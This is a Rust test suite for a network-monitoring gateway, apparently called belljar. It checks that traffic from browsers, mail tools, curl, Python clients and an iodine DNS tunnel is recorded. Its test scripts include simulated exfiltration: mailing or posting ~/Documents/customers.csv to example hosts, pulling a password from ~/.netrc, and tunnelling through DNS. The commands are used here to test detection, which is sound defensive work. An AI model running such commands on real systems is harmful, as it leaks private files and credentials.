//! More of the gateway's clients: a browser, mail programs, a tunnel through names, proxies' clients, clients of old
//! habits; and trust stores as each sort of system keeps them.
//!
//! A client that is missing fails the test, which says what to install; `.ci/run` installs all.

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, reason = "tests")]

mod common;

use std::fs;
use std::os::unix::fs::{PermissionsExt, symlink};
use std::path::Path;
use std::process::Command;

use common::{Lab, Privilege, need};
use serde_json::Value;

/// The profile that ships with belljar, and more.
fn profile(lab: &Lab, more: &str) {
    let base = fs::read_to_string("profiles/workstation.toml").expect("the profile");
    fs::write(lab.work().join("own.toml"), format!("{base}\n{more}")).expect("write");
}

#[test]
fn a_browser_loads_a_page_and_all_it_says_is_read() {
    need(&[("chromium", "chromium")]);
    let lab = Lab::new(Privilege::available()[0]);
    profile(
        &lab,
        r#"
[[route]]
host = "page.example.com"
path = "/hello*"
headers = { "content-type" = "text/html" }
content = '''<!DOCTYPE html><title>a page</title><link rel="preconnect" href="https://never.example.com">
<link rel="preconnect" href="https://never.example.org"><script>
fetch("https://api.example.com/collect", {method: "POST", body: "said=browser"})
const socket = new WebSocket("wss://chat.example.com/x")
socket.onopen = () => { socket.send("said in frames"); document.title = "has spoken" }
// The browser's clock stands still while something is being fetched.
const wait = async () => { for (let n = 0; n < 200 && document.title != "has spoken"; n++) await fetch("https://api.example.com/tick") }
wait()
</script>'''
"#,
    );
    let recorded = lab.script(
        &["--profile", "own.toml"],
        // On a busy machine the browser's clock may run out before the page is there.
        "for try in 1 2 3; do \
           page=$(chromium --headless --no-sandbox --disable-gpu --no-first-run --disable-background-networking \
             --disable-component-update --disable-sync --disable-dev-shm-usage --user-data-dir=/tmp/browser \
             --virtual-time-budget=5000 --dump-dom 'https://page.example.com/hello?who=anna' 2>/dev/null); code=$?; \
           case $page in *'has spoken'*) break;; esac; \
         done; echo \"$page\"; echo \"chromium $code\"",
    );
    lab.expect(
        &recorded,
        &["<title>has spoken</title>", "chromium 0"],
        &[
            "op:dns-query payload:page.example.com proc:chromium",
            // The browser greases its hellos: with a cipher, an extension, and an Encrypted Client Hello of nothing.
            r#"op:tls-hello target:page.example.com:443 detail~"ech" proc:chromium"#,
            "op:http-request url:https://page.example.com/hello?who=anna protocol:h2 tls:yes proc:chromium",
            "op:http-response target:page.example.com:443 status:200",
            "op:http-request url:https://api.example.com/collect method:POST proc:chromium",
            "op:sent payload:said=browser tls:yes target:api.example.com:443 proc:chromium",
            r#"op:sent protocol:websocket payload:"said in frames" tls:yes target:chat.example.com:443"#,
        ],
    );
    // A browser opens connections that it does not need, and lets go of them before anything is said.
    let coverage = &recorded.report.as_ref().expect("a report")["coverage"];
    lab.expect(
        &recorded,
        &[],
        &["op:tls-hello target:never.example.com:443", "op:tls-hello target:never.example.org:443"],
    );
    let accused = lab.events(&recorded.bundle, r#"op:tls-refused detail~"without a word""#);
    assert!(accused.is_empty(), "{accused:#?}");
    let unread = coverage["unread"].as_array().expect("a list");
    assert!(unread.iter().all(|place| place == "api.example.com:443"), "{coverage}");
    assert!(coverage["decrypted"].as_u64() >= Some(3) && coverage["lost"] == 0, "{coverage}");
}

#[test]
fn mail_programs_and_old_habits_are_heard() {
    need(&[("msmtp", "msmtp"), ("swaks", "swaks"), ("curl", "curl"), ("openssl", "openssl"), ("python3", "python3")]);
    let script = r#"
import socket, ssl, struct
def query(name, kind=1):
    labels = b"".join(bytes([len(l)]) + l for l in name.split(b"."))
    return struct.pack("!6H", 7, 0x100, 1, 0, 0, 0) + labels + b"\0" + struct.pack("!HH", kind, 1)
def attempt(name, what):
    try: print(name, what())
    except Exception as error: print(name, "failed", repr(error))
def overtls():
    s = ssl.create_default_context().wrap_socket(socket.create_connection(("dot.example.com", 853), 5), server_hostname="dot.example.com")
    m = query(b"overtls.example.com"); s.sendall(struct.pack("!H", len(m)) + m); return s.recv(999)[2:4]
def userinfo():
    s = socket.create_connection(("proxy.example.com", 3128), 5)
    s.sendall(b"GET http://anna:s3cret@inside.example.com/x HTTP/1.1\r\nHost: inside.example.com\r\nConnection: close\r\n\r\n"); return s.recv(99)[:12]
def broken():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2)
    head = struct.pack("!6H", 9, 0x100, 1, 0, 0, 0)
    answers = 0
    for message in [b"", b"\0", head[:7], head + b"\xc0\x0c\0\1\0\1", head + b"\x41x", head + b"\x3f" + b"a" * 9,
                    struct.pack("!6H", 9, 0x100, 65535, 65535, 65535, 65535) + b"\1a\0", b"\xff" * 700]:
        s.sendto(message, ("10.20.0.1", 53))
    s.sendto(query(b"\xff\x00odd.bytes.example.com"), ("10.20.0.1", 53))
    s.sendto(query(b"typed.example.com", 65399), ("10.20.0.1", 53))
    try:
        while True: s.recv(999); answers += 1
    except TimeoutError: return answers > 2
attempt("overtls", overtls); attempt("userinfo", userinfo); attempt("broken", broken)
try:
    import requests
    print("requests", requests.post("https://req.example.com/x", data={"said": "requests"}, timeout=9).status_code)
except ImportError: print("requests is missing: apt-get install python3-requests")
"#;
    for privilege in Privilege::available() {
        let lab = Lab::new(privilege);
        fs::write(lab.work().join("talk.py"), script).expect("write");
        profile(
            &lab,
            r#"
[[route]]
host = "digest.example.com"
path = "/*"
status = 401
headers = { "www-authenticate" = 'Digest realm="x", nonce="abc", qop="auth", algorithm=MD5' }
"#,
        );
        let recorded = lab.script(
            &["--profile", "own.toml"],
            r#"
{ printf 'Subject: hi\r\n\r\n'; cat ~/Documents/customers.csv; } | msmtp --host=mail.example.com --port=587 --tls=on --tls-starttls=on \
  --tls-trust-file=/etc/ssl/certs/ca-certificates.crt --auth=plain --user=anna --passwordeval='echo s3cret' --from=a@b.example c@d.example; echo "msmtp $?"
swaks --silent 2 --server smtp.example.com:587 --tls --auth LOGIN --auth-user anna --auth-password hunter2 --from a@b.example --to c@d.example --body 'by swaks'; echo "swaks $?"
python3 talk.py
curl -sS -x http://proxy.example.com:3128 http://absolute.example.com/y; echo " absolute $?"
curl -sS --digest -u anna:pw https://digest.example.com/z; echo " digest $?"
curl -sS --digest -u "anna:$(tr ' ' '\n' < ~/.netrc | grep -A1 -m1 password | tail -1)" https://digest.example.com/planted; echo " planted $?"
curl -sS -b 'session=abc123; theme=dark' https://cookies.example.com/; echo " cookies $?"
curl -sS --tls-max 1.2 --ciphers ECDHE-RSA-AES128-GCM-SHA256 https://rsa.example.com/ -d said=rsa; echo " rsa $?"
curl -sS -H 'Transfer-Encoding: chunked' -H 'Expect: 100-continue' --http1.1 https://chunks.example.com/ -d said=chunks; echo " chunks $?"
echo | openssl s_client -connect sig.example.com:443 -servername sig.example.com -sigalgs rsa_pss_rsae_sha256 -verify_return_error 2>&1 | grep -c 'Peer signature type: RSA-PSS'
"#,
        );
        lab.expect(
            &recorded,
            &[
                "msmtp 0",
                "swaks 0",
                "overtls b'\\x00\\x07'",
                "userinfo b'HTTP/1.1 200'",
                "broken True",
                "requests 200",
                "absolute 0",
                "digest 0",
                "planted 0",
                "cookies 0",
                "rsa 0",
                "chunks 0",
                "\n1\n",
            ],
            &[
                "op:sent protocol:smtp tls:yes asset:customers verb:transmit target:mail.example.com:587 proc:msmtp",
                r#"op:credential protocol:smtp detail:"smtp anna" payload:anna:s3cret tls:yes proc:msmtp"#,
                "op:credential protocol:smtp payload:anna:hunter2 target:smtp.example.com:587",
                r#"op:sent protocol:smtp tls:yes payload~"by swaks""#,
                "op:dns-query payload:overtls.example.com tls:yes proc:python3*",
                r#"op:credential detail:"url anna" payload:anna:s3cret target:inside.example.com:3128"#,
                "op:http-request url:http://absolute.example.com/y tls:no proc:curl",
                r#"op:credential detail:"digest anna" payload~response tls:yes"#,
                r#"op:credential detail:"digest anna" verb:use asset:netrc proc:curl"#,
                r#"op:credential detail:"cookie session" payload:abc123 target:cookies.example.com:443"#,
                "op:sent payload:said=rsa tls:yes target:rsa.example.com:443",
                "op:sent payload:said=chunks tls:yes target:chunks.example.com:443",
                "op:sent payload:said=requests tls:yes proc:python3*",
                "op:dns-query payload~bytes.example.com proc:python3*",
                r#"op:dns-query detail:"TYPE65399 NOERROR" payload:typed.example.com"#,
            ],
        );
        let broken = lab.events(&recorded.bundle, r#"op:dns-query detail:"not understood" proc:python3*"#);
        assert!(broken.len() >= 7, "{} of the broken messages are there", broken.len());
        assert!(lab.events(&recorded.bundle, "op:tls-refused").is_empty());
    }
}

#[test]
fn who_lets_go_after_the_handshake_has_refused() {
    need(&[("curl", "curl"), ("openssl", "openssl"), ("python3", "python3"), ("awk", "gawk")]);
    // Each with a control that sends by the same client.
    let script = r#"
pin=sha256//AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=
own=sha256//$(echo | openssl s_client -connect own.example.com:443 2>/dev/null | openssl x509 -noout -pubkey | openssl pkey -pubin -outform der | openssl dgst -sha256 -binary | base64)
send() { name=$1; shift; curl -sS "$@" -d @$HOME/Documents/customers.csv -o /dev/null https://$name.example.com/; echo "$name $?"; }
send pinned --pinnedpubkey $pin
send oldpinned --tls-max 1.2 --pinnedpubkey $pin
send blind -k
send own --pinnedpubkey $own
python3 - <<'END'
import ssl, socket, smtplib, threading, time
def attempt(name, what):
    try: print(name, what())
    except Exception as error: print(name, "failed", repr(error))
try:
    import urllib3
    def post(host, **more):
        return urllib3.HTTPSConnectionPool(host, 443, retries=False, ca_certs="/etc/ssl/certs/ca-certificates.crt", **more).request("POST", "/", body=b"said").status
    attempt("elsewhere", lambda: post("elsewhere.example.com"))
    attempt("print", lambda: post("print.example.com", assert_fingerprint="00" * 32))
except ImportError: print("urllib3 is missing: apt-get install python3-urllib3")
# A client of mail that is greeted, and leaves; one that checks before it goes on.
def open_tls(host, port): return ssl.create_default_context().wrap_socket(socket.create_connection((host, port), 9), server_hostname=host)
def greeted():
    s = open_tls("greeted.example.com", 465); said = s.recv(99)[:3]; s.close(); return said
def upgraded():
    s = smtplib.SMTP("upgraded.example.com", 587, timeout=9); s.starttls(context=ssl.create_default_context()); s.sock.close(); return "gone"
# One in reserve, which is let go of at once, beside one that is used later.
def reserve():
    used, spare = open_tls("reserve.example.com", 443), open_tls("reserve.example.com", 443)
    spare.close(); time.sleep(0.2); used.sendall(b"GET / HTTP/1.0\r\n\r\n"); return used.recv(12)
# Many, of which none is used.
def many():
    all = [open_tls("many.example.com", 443) for _ in range(3)]
    for one in all: one.close()
    return len(all)
for what in [greeted, upgraded, reserve, many]: attempt(what.__name__, what)
END
# A reset, when the handshake has surely ended.
python3 -c '
import ssl, socket, struct, time
s = ssl.create_default_context().wrap_socket(socket.create_connection(("reset.example.com", 443), 9), server_hostname="reset.example.com")
time.sleep(0.2); s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0)); s.close(); print("reset gone")'
"#;
    for privilege in Privilege::available() {
        let lab = Lab::new(privilege);
        let recorded = lab.script(&[], script);
        let told = r#"op:tls-refused tls:yes detail~"after it had seen the certificate, without a word""#;
        lab.expect(
            &recorded,
            &[
                "pinned 90",
                "oldpinned 90",
                "blind 0",
                "own 0",
                "elsewhere 200",
                "print failed",
                "greeted b'220'",
                "upgraded gone",
                "reserve b'HTTP/1.",
                "many 3",
                "reset gone",
            ],
            &[
                &format!("{told} target:pinned.example.com:443 proc:curl verb:transmit asset:customers"),
                &format!("{told} target:oldpinned.example.com:443 proc:curl verb:transmit asset:customers"),
                &format!("{told} target:print.example.com:443 proc:python3*"),
                &format!("{told} target:upgraded.example.com:587"),
                &format!("{told} target:reset.example.com:443"),
                "op:sent target:blind.example.com:443 verb:transmit asset:customers",
                "op:sent target:own.example.com:443 verb:transmit asset:customers",
            ],
        );
        let refusals = lab.events(&recorded.bundle, "op:tls-refused");
        let mut places: Vec<_> = refusals.iter().filter_map(|event| event["target"].as_str()).collect();
        places.sort_unstable();
        let pinned = ["many.example.com:443", "oldpinned.example.com:443", "pinned.example.com:443"];
        let others = ["print.example.com:443", "reset.example.com:443", "upgraded.example.com:587"];
        assert_eq!(places, [pinned, others].concat(), "{privilege:?}");
        let report = recorded.report.expect("a report");
        let coverage = &report["coverage"];
        assert_eq!(coverage["unread"], serde_json::json!(places), "{coverage}");
        let all = coverage["connections"].as_u64().expect("a number");
        assert_eq!(coverage["decrypted"].as_u64(), Some(all - 6), "{coverage}");
        let suspected = |place: &str| {
            let is = |finding: &&Value| finding["verb"] == "transmit" && finding["destination"] == place;
            report["findings"].as_array().expect("findings").iter().filter(is).any(|f| f["confidence"] == "suspected")
        };
        assert!(suspected("pinned.example.com:443"), "{}", report["findings"]);
    }
}

#[test]
fn a_tunnel_through_names_is_seen() {
    need(&[("iodine", "iodine"), ("cc", "gcc")]);
    for privilege in Privilege::available() {
        let lab = Lab::new(privilege);
        lab.build_fixture_with("tun", &["-shared", "-fPIC"]);
        // As the jail's root, which it insists on.
        let script = "cat /home/anna/Documents/customers.csv >/dev/null; \
                      LD_PRELOAD=$PWD/tun timeout 20 /usr/sbin/iodine -f -P pw tunnel.example.com; echo \"iodine $?\"";
        let recorded = lab.script(&["--user", "root"], script);
        lab.expect(&recorded, &["iodine 1", "No suitable DNS query type found"], &[]);
        let asked = lab.events(&recorded.bundle, "op:dns-query payload~.tunnel.example.com proc:iodine");
        for kind in ["NULL", "TXT", "SRV", "MX", "CNAME", "A", "TYPE65399"] {
            let of_kind =
                |event: &&Value| event["detail"].as_str().is_some_and(|text| text.split(' ').next() == Some(kind));
            assert!(asked.iter().any(|event| of_kind(&event)), "no {kind} among {} questions", asked.len());
        }
    }
}

/// A system of openssl, a shell and what they need, in which trust is kept as some distribution keeps it.
fn system(lab: &Lab, name: &str, files: &[&str], links: &[(&str, &str)]) -> std::path::PathBuf {
    let root = lab.work().join(name);
    let place = |path: &str| {
        let path = root.join(path);
        fs::create_dir_all(path.parent().expect("a parent")).expect("mkdir");
        path
    };
    for program in ["/usr/bin/openssl", "/usr/bin/sh", "/usr/bin/grep"] {
        let output = Command::new("ldd").arg(program).output().expect("ldd runs");
        let text = String::from_utf8_lossy(&output.stdout).into_owned();
        let libraries = text.split_whitespace().filter(|word| word.starts_with('/'));
        for path in libraries.chain([program]) {
            let to = place(&path[1..]);
            fs::copy(path, &to).expect("copy");
            fs::set_permissions(&to, fs::Permissions::from_mode(0o755)).expect("chmod");
        }
    }
    place("etc/passwd");
    for path in files {
        fs::write(place(path), "# theirs\n").expect("write");
    }
    for (link, target) in links {
        symlink(target, place(link)).expect("symlink");
    }
    root
}

/// A name, files, links, and the stores that must do each by itself.
type Layout = (&'static str, &'static [&'static str], &'static [(&'static str, &'static str)], &'static [&'static str]);

#[test]
fn systems_of_every_layout_trust_the_authority() {
    need(&[("openssl", "openssl")]);
    let lab = Lab::new(*Privilege::available().last().expect("one"));
    let layouts: [Layout; 4] = [
        (
            "debian",
            &["etc/ssl/certs/ca-certificates.crt"],
            &[("usr/lib/ssl/certs", "/etc/ssl/certs")],
            &["file /etc/ssl/certs/ca-certificates.crt", "path /etc/ssl/certs", "path /usr/lib/ssl/certs"],
        ),
        (
            "fedora",
            &["etc/pki/ca-trust/extracted/pem/tls-ca-bundle.pem", "etc/pki/ca-trust/source/anchors/x"],
            &[
                ("etc/pki/tls/certs/ca-bundle.crt", "/etc/pki/ca-trust/extracted/pem/tls-ca-bundle.pem"),
                ("etc/pki/tls/cert.pem", "/etc/pki/ca-trust/extracted/pem/tls-ca-bundle.pem"),
                ("etc/ssl/certs", "../pki/tls/certs"),
            ],
            &[
                "file /etc/pki/ca-trust/extracted/pem/tls-ca-bundle.pem",
                "file /etc/pki/tls/certs/ca-bundle.crt",
                "file /etc/pki/tls/cert.pem",
                "file /etc/ssl/certs/ca-bundle.crt",
                "path /etc/pki/tls/certs",
                "file /etc/pki/ca-trust/source/anchors/example-trust-root-g1.pem",
            ],
        ),
        (
            "suse",
            &[
                "var/lib/ca-certificates/ca-bundle.pem",
                "var/lib/ca-certificates/pem/x",
                "var/lib/ca-certificates/openssl/x",
            ],
            &[
                ("etc/ssl/certs", "/var/lib/ca-certificates/pem"),
                ("etc/ssl/ca-bundle.pem", "/var/lib/ca-certificates/ca-bundle.pem"),
            ],
            &[
                "file /etc/ssl/ca-bundle.pem",
                "file /var/lib/ca-certificates/ca-bundle.pem",
                "path /etc/ssl/certs",
                "path /var/lib/ca-certificates/openssl",
            ],
        ),
        (
            "alpine",
            &["etc/ssl/certs/ca-certificates.crt"],
            &[("etc/ssl/cert.pem", "certs/ca-certificates.crt"), ("etc/ssl1.1/cert.pem", "/etc/ssl/cert.pem")],
            &["file /etc/ssl/cert.pem", "file /etc/ssl1.1/cert.pem", "path /etc/ssl/certs"],
        ),
    ];
    for (name, files, links, stores) in layouts {
        let root = system(&lab, name, files, links);
        let mut script = String::from("unset SSL_CERT_FILE\n");
        // Each store alone must do, and none must not.
        for store in stores.iter().chain(&["file /etc/passwd"]) {
            let (kind, path) = store.split_once(' ').expect("two words");
            let option = if kind == "file" { "-no-CApath -CAfile" } else { "-no-CAfile -CApath" };
            script += &format!(
                "echo | openssl s_client -connect {name}.example.com:443 -servername {name}.example.com -no-CAstore {option} {path} \
                 2>&1 | grep -q 'Verify return code: 0' && echo 'trusts {path}'\n"
            );
        }
        let recorded = lab.script(&["--rootfs", root.to_str().expect("text"), "--workdir", "/"], &script);
        let shown = recorded.screen();
        for store in stores {
            let path = store.split_once(' ').expect("two words").1;
            assert!(shown.contains(&format!("trusts {path}\n")), "{name}: {path}\n{shown}\n{}", recorded.stderr);
        }
        assert!(!shown.contains("trusts /etc/passwd"), "{name}: the control trusts\n{shown}");
        assert!(!Path::new(&root).join("etc/ssl/certs/197ce40b.0").exists(), "the image is as it was");
    }
}
